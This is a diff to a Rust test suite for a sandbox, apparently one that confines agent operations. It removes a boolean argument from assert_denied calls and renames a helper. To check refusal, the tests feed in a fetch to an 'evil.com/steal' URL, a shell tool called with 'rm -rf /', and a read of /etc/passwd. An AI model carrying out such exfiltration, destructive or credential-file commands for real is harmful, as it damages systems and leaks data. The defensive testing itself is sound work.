@@ -25,7 +25,7 @@ fn fetch_to_other_host_is_egress_denied_and_never_connects() {
         format!("https://127.0.0.1:{p}/steal"),
         "http://evil.com/steal?data=secrets".into(),
     ] {
-        assert_denied(&sb.run(Op::fetch(url)), Violation::EgressDenied, false);
+        assert_denied(&sb.run(Op::fetch(url)), Violation::EgressDenied);
     }
     assert_eq!(
         server.connections(),
@@ -49,7 +49,7 @@ fn allowed_tool_runs() {
         .unwrap();
     let r = sb.run(Op::tool("summarize", "four"));
     assert!(r.ok, "{r:?}");
-    assert_eq!(text(&r), "summary of 4 bytes");
+    assert_eq!(result_text(&r), "summary of 4 bytes");
     assert_eq!(calls.load(Ordering::SeqCst), 1);
 }
 
@@ -67,18 +67,9 @@ fn unlisted_tool_is_tool_denied_and_never_runs() {
     assert_denied(
         &sb.run(Op::tool("shell", "rm -rf /")),
         Violation::ToolDenied,
-        false,
     );
-    assert_denied(
-        &sb.run(Op::tool("deploy", "")),
-        Violation::ToolDenied,
-        false,
-    );
-    assert_denied(
-        &sb.run(Op::tool("Summarize", "")),
-        Violation::ToolDenied,
-        false,
-    );
+    assert_denied(&sb.run(Op::tool("deploy", "")), Violation::ToolDenied);
+    assert_denied(&sb.run(Op::tool("Summarize", "")), Violation::ToolDenied);
     assert_eq!(calls.load(Ordering::SeqCst), 0);
     assert!(sb.run(Op::tool("summarize", "x")).ok);
     assert_eq!(calls.load(Ordering::SeqCst), 1);
@@ -91,12 +82,8 @@ fn max_ops_is_a_hard_halt() {
     let mut sb = sandbox(&w, w.caps_builder().max_ops(2).build().unwrap());
     assert!(sb.run(Op::read("/work/data.txt")).ok);
     // A denied op still counts against the budget.
-    assert_denied(
-        &sb.run(Op::read("/etc/passwd")),
-        Violation::FsReadDenied,
-        false,
-    );
-    assert_denied(&sb.run(Op::read("/work/data.txt")), Violation::MaxOps, true);
+    assert_denied(&sb.run(Op::read("/etc/passwd")), Violation::FsReadDenied);
+    assert_denied(&sb.run(Op::read("/work/data.txt")), Violation::MaxOps);
     assert_eq!(sb.halted().unwrap().violation, Violation::MaxOps);
 }
 
@@ -112,7 +99,7 @@ fn max_output_bytes_is_a_hard_halt() {
     assert!(sb.run(Op::read("/work/data.txt")).ok);
     assert_eq!(sb.usage().output_bytes, DATA.len() as u64);
     let r = sb.run(Op::read("/work/data.txt"));
-    assert_denied(&r, Violation::MaxOutputBytes, true);
+    assert_denied(&r, Violation::MaxOutputBytes);
     assert_eq!(
         sb.usage().output_bytes,
         DATA.len() as u64,
@@ -136,11 +123,7 @@ fn max_wall_is_a_hard_halt() {
         .unwrap();
     assert!(sb.run(Op::read("/work/data.txt")).ok);
     assert!(sb.run(Op::read("/work/data.txt")).ok);
-    assert_denied(
-        &sb.run(Op::read("/work/data.txt")),
-        Violation::MaxWall,
-        true,
-    );
+    assert_denied(&sb.run(Op::read("/work/data.txt")), Violation::MaxWall);
 }
 
 // 20
@@ -167,14 +150,14 @@ fn after_hard_halt_every_op_is_refused() {
     let w = World::new();
     let mut sb = sandbox(&w, w.caps_builder().max_ops(1).build().unwrap());
     assert!(sb.run(Op::read("/work/data.txt")).ok);
-    assert_denied(&sb.run(Op::read("/work/data.txt")), Violation::MaxOps, true);
+    assert_denied(&sb.run(Op::read("/work/data.txt")), Violation::MaxOps);
     let before = w.snapshot();
     for op in [
         Op::read("/work/data.txt"),
         Op::write("/work/out/late.txt", "x"),
         Op::tool("summarize", ""),
     ] {
-        assert_denied(&sb.run(op), Violation::MaxOps, true);
+        assert_denied(&sb.run(op), Violation::MaxOps);
     }
     assert_eq!(w.snapshot(), before);
     assert_eq!(
